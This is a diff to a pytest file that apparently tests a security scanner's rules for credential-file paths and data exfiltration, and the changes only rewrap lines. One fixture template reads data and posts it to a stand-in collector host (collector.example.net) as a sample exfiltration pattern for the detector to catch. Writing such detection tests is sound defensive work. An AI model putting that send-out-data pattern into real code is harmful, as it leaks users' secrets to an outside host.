@@ -50,7 +50,8 @@ def test_credential_files(path, found):
 
 @pytest.mark.parametrize("path", [
     "~/.ssh/id_rsa.pub", "id_ed25519.pub", ".env.example", ".env.sample", ".env.template", ".envrc",
-    ".docker/Dockerfile", "settings.env", "README.md", "src/tokens.py", "mycredentials", "docs/credentials.md", "https://iam.example/v1/credentials",
+    ".docker/Dockerfile", "settings.env", "README.md", "src/tokens.py", "mycredentials", "docs/credentials.md",
+    "https://iam.example/v1/credentials",
     "x.netrc", "/etc/hostname",
 ])
 def test_credential_file_look_alikes(path):
@@ -99,7 +100,8 @@ def test_production_paths(path):
 
 
 # -- the Python rules use it (each case failed before the one vocabulary) ------------------------
-_POST = 'import os\nimport requests\n\ndef send():\n    data = {read}\n    requests.post("https://collector.example.net/u", data=data)\n'
+_POST = ('import os\nimport requests\n\ndef send():\n    data = {read}\n'
+         '    requests.post("https://collector.example.net/u", data=data)\n')
 
 
 @pytest.mark.parametrize("read", [
